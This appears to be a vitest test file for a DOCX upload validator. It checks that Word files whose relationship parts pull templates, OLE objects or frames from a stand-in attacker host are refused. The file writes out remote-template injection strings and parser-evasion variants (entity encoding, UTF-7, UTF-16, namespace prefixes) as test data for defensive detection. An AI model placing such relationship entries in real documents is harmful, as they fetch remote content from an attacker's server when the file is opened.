import { expect, test } from 'vitest'

import { drawDocx } from '../../../quality/uploads/draw-docx.mjs'
import { checkDocx } from './docx'
import { inMemory } from './random-access'

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const list = (relationships: string, head = '<?xml version="1.0" encoding="UTF-8"?>') =>
  `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`
const one = (type: string, target: string, mode = ' TargetMode="External"') =>
  list(`<Relationship Id="rId1" Type="${OFFICE}/${type}" Target="${target}"${mode}/>`)

const TEMPLATE = 'https://templates.attacker.example/a.dotm'
const REFUSED = 'This Word document loads a part of it from elsewhere. Please save it as a PDF and upload that one.'
const check = (content: string | Uint8Array, name = 'word/_rels/settings.xml.rels') =>
  checkDocx(inMemory(drawDocx({ parts: { [name]: content } })))

test.each([
  ['a template from another server', one('attachedTemplate', TEMPLATE)],
  ['a template from a share', one('attachedTemplate', '\\\\attacker.example\\share\\a.dotm')],
  ['a template from a share, as an address', one('attachedTemplate', 'file://attacker.example/share/a.dotm')],
  ['an object from another server', one('oleObject', 'mhtml:http://attacker.example/x!http://attacker.example/x')],
  ['a frame from another server', one('frame', '//attacker.example/a')],
  ['one that does not say that it is elsewhere', one('attachedTemplate', TEMPLATE, '')],
  [
    'one behind a sign that ends no tag',
    list(`<Relationship Id=">" Target='${TEMPLATE}' Type='${OFFICE}/attachedTemplate'/>`),
  ],
  ['one with letters as numbers', one('attachedTemplate', TEMPLATE.replace('h', '&#104;'))],
  ['one with a type of its own', list(`<!DOCTYPE x><Relationship Id="a" Type="t" Target="${TEMPLATE}"/>`)],
  ['one under another name', list(`<p:Relationship Id="a" Type="t" Target="${TEMPLATE}"></p:Relationship>`)],
  ['one under a name without end', list(`<${'p'.repeat(2000)}:Relationship Id="a" Type="t" Target="${TEMPLATE}"/>`)],
  ['a list in another encoding', one('styles', 'styles.xml', '').replace('UTF-8', 'UTF-7')],
  [
    'a list of sixteen bits',
    new Uint8Array(
      new Uint16Array([...one('attachedTemplate', TEMPLATE)].map((letter) => letter.charCodeAt(0))).buffer,
    ),
  ],
])('a document with %s is refused', async (_, content) => {
  await expect(check(content)).rejects.toThrow(REFUSED)
})

test('it is found wherever it stands', async () => {
  for (const name of ['word/_rels/document.xml.rels', 'word\\_rels\\footer1.xml.rels', 'WORD/_RELS/X.RELS']) {
    await expect(check(one('oleObject', TEMPLATE), name)).rejects.toThrow(REFUSED)
  }
})

test.each([
  ['links that a reader clicks on', one('hyperlink', 'https://www.skarnhollow.example/a?b=1&amp;c=2')],
  ['a picture that stands elsewhere', one('image', 'https://www.skarnhollow.example/a.png')],
  [
    'the template on its author’s own drive',
    one('attachedTemplate', 'file:///C:\\Users\\Olav\\Templates\\Minutes%202026.dotx'),
  ],
  [
    'parts of its own',
    list(
      `<Relationship Id="a" Type="${OFFICE}/styles" Target="styles.xml"/><Relationship Id="b" Type="${OFFICE}/footer" Target="/word/footer1.xml"></Relationship>`,
    ),
  ],
  ['no relationships', list('')],
])('a document with %s is taken', async (_, content) => {
  await expect(check(content)).resolves.toBeUndefined()
})

test('a document with more lists than anybody’s has is refused', async () => {
  const parts = Object.fromEntries(Array.from({ length: 51 }, (_, at) => [`word/_rels/part${at}.xml.rels`, list('')]))
  await expect(checkDocx(inMemory(drawDocx({ parts })))).rejects.toThrow('its list of contents can’t be read')
})
